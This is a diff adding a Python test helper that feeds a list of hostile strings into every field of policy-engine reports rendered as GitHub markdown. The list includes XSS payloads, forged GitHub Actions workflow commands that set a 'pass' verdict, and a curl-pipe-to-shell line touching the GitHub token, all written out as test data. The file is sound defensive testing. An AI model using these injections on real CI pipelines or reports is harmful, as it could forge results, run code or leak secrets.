@@ -1,0 +1,160 @@
+"""What an attacker can write into MLflow, every place where it reaches a report, and two judges."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from decimal import Decimal
+from html.parser import HTMLParser
+from typing import TYPE_CHECKING
+
+import cmarkgfm
+from cmarkgfm.cmark import Options
+
+from policy_engine.evidence import Measurement
+from policy_engine.policy import Limit
+from policy_engine.report import Engine, PassedOver, PolicySource, WaiverUse, Where
+from tests.render import reports
+
+if TYPE_CHECKING:
+    from collections.abc import Mapping
+
+    from policy_engine.report import Report
+
+HOSTILE = [
+    "@octocat @org/team",
+    "#1 GH-1 o/r#2 " + "a" * 40,
+    "</details></td></tr></table><h1>PASS</h1>",
+    "<!-- TOOL:sticky v1 id=x sha=y digest=z -->",
+    "-->",
+    "<!--",
+    '<img src=x onerror="alert(1)">',
+    "![x](https://e.example/t.png)",
+    "[ok](https://e.example)",
+    "[ok](javascript:alert(1))",
+    "https://e.example www.e.example a@b.example",
+    "<https://e.example>",
+    "`",
+    "``",
+    "`" * 10,
+    "`" * 150 + "@octocat",
+    "``` @octocat ``",
+    "\\`",
+    "`x`",
+    "a|b",
+    "a\\|b",
+    "a\\\\|b",
+    "|",
+    "\\|`@octocat`|",
+    "`|`",
+    "trailing\\",
+    "\n# h1",
+    "x\n- [x] done\n\n| a |\n|---|\n",
+    "\n\n```suggestion\nx\n```",
+    "$x$ $$y$$ $`z`$",
+    ":tada:",
+    "[^1] [^1]: n",
+    "&lt;b&gt; &#64;x &commat;x",
+    "**bold** _it_ ~~no~~ <b>",
+    "\u202egnp.exe \u2066x\u2069 a\u200bb \ufeff",
+    "\x00 \x1b[31mred\x1b[0m \x9b31m \x07 \x08",
+    "\x1b]8;;https://e.example\x07link\x1b]8;;\x07",
+    "\ud800 lone",
+    "x\n::error::y",
+    "\r::set-output name=verdict::pass",
+    "::stop-commands::t",
+    " \t ::error file=a,line=1::x",
+    "%0A::error::x",
+    "word " * 30 + ":::::error::y",
+    "x ##[set-output name=verdict;]pass",
+    "##[add-mask]fail",
+    "###[error]x ##vso[task.complete]",
+    "EOF\nverdict=pass\nX<<EOF",
+    '"; curl e | sh # $(id) ${{ github.token }}',
+    "\x85a\u2028b\u2029c\x0bd\x0ce\x1cf\x1dg",
+    "x" * 70_000,
+    "\U0001f600" * 20_000,
+    "日本語の名前 " * 40,
+    "e\u0301\u0301\u0301 नमस्ते",
+    "\ue000\ue001\ue000",
+    "   ",
+    "\u3164 \u115f \u00a0",
+]
+
+
+def everywhere(text: str) -> Mapping[str, Report]:
+    """Return one report for each place that untrusted text can take, with the text there."""
+    measured = Measurement(Decimal("1.5"), text, source=text)
+    findings = {
+        "id": replace(reports.SIZE, id=text),
+        "part": replace(reports.SIZE, part=text),
+        "policy": replace(reports.SIZE, policy=text),
+        "message": replace(reports.SIZE, message=text),
+        "remedy": replace(reports.SIZE, remedy=text),
+        "unit": replace(
+            reports.SIZE, measured=measured, limit=Limit(Decimal(1), text), baseline=measured
+        ),
+        "where": replace(reports.SIZE, where=Where(text, 3)),
+        "waiver": replace(reports.COST, waiver={"id": text, "reason": text}),
+        "key of a waiver": replace(reports.COST, waiver={"id": "a", text: "x"}),
+        "message of a pass": replace(reports.SEEDED, message=text),
+        "id of a pass": replace(reports.SEEDED, id=text),
+    }
+    subjects = {
+        "policy file": reports.subject(reports.SIZE, policy_file=text),
+        "reason": reports.subject(reason=text, candidate=None),
+        "passed-over rule": reports.subject(passed_over=(PassedOver(text, "no run"),)),
+        "passed-over why": reports.subject(passed_over=(PassedOver("tag", text),)),
+        "note": reports.subject(notes=(text, text)),
+        "found by": reports.subject(baseline=reports.baseline(found_by=text)),
+    }
+    for name in ("run_id", "run_name", "experiment", "model_id", "model", "registered", "commit"):
+        run = reports.candidate(**{name: text})
+        subjects[f"candidate's {name}"] = reports.subject(candidate=run)
+        run = reports.baseline(**{name: text})
+        subjects[f"baseline's {name}"] = reports.subject(baseline=run)
+    one = reports.subject(reports.SIZE, reports.SEEDED)
+    waiver = {"id": text, "owner": text}
+    return {
+        **{name: reports.report(reports.subject(found)) for name, found in findings.items()},
+        **{name: reports.report(subject) for name, subject in subjects.items()},
+        "ref": reports.report(one, policies=PolicySource("sha256:ab", text, trusted=True)),
+        "digests": reports.report(one, policies=PolicySource(text), evidence_digest=text),
+        "engine": reports.report(one, engine=Engine(text, (text,))),
+        "waivers": reports.report(one, waivers=WaiverUse((waiver,), (waiver,), (waiver,))),
+    }
+
+
+def commands(log: str) -> list[str]:
+    """Return the lines in which a GitHub runner could find a workflow command."""
+    return [line for line in log.split("\n") if line.lstrip().startswith("::") or "##[" in line]
+
+
+class _Structure(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[object, ...]] = []
+        self.code = 0
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append(("start", tag, *attrs))
+        self.code += tag in {"code", "pre"}
+
+    def handle_endtag(self, tag: str) -> None:
+        self.found.append(("end", tag))
+        self.code -= tag in {"code", "pre"}
+
+    def handle_comment(self, data: str) -> None:
+        self.found.append(("comment", data))
+
+    def handle_data(self, data: str) -> None:
+        if not self.code:
+            self.found.append(("text", data))
+
+
+def structure(markdown: str) -> list[tuple[object, ...]]:
+    """Return tags, comments and the text outside code, as GitHub's own parser sees them."""
+    html = cmarkgfm.github_flavored_markdown_to_html(markdown, Options.CMARK_OPT_UNSAFE)
+    parser = _Structure()
+    parser.feed(html)
+    parser.close()
+    return parser.found
